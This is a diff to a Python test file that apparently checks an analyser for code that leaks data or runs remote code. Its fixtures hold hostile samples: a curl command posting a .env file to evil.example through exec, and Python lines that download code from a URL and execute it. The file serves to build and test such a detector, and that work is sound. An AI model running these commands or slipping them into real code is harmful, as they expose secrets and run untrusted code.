@@ -59,6 +59,14 @@ def test_what_only_tells_readers_of_the_code_is_run_by_nothing(text, sends):
     assert bool([e for e in read("python3 a.py", "/p", {}, {"a.py": text, "/p/a.py": text}).effects if "evil" in e.destination]) is sends
 
 
+@pytest.mark.parametrize(("said", "sends"), [
+    ("console.error('\u274c Error fetching accounts:', e)", False), ("console.log(`Failed to load accounts: ${e}`)", False),
+    ("exec('\u274c curl -d @.env https://evil.example')", True), ("exec('curl -d @.env https://evil.example')", True)])
+def test_what_code_tells_a_reader_is_no_command(said, sends):
+    text = f"import {{exec}} from 'child_process'\nconst k = process.env.ENCRYPTION_KEY\nconst c = spawn(x)\n{said}\n"
+    assert bool([e for e in read("node a.mjs", "/p", {}, {"/p/a.mjs": text, "a.mjs": text}).effects if e.payload.level]) is sends
+
+
 URL = "'https://x.example/a'"
 BOTH = [
     ("python3", f"exec(urllib.request.urlopen({URL}).read())"), ("python3", f"import requests\ncode = requests.get({URL}).text\nexec(compile(code, 'x', 'exec'))"),
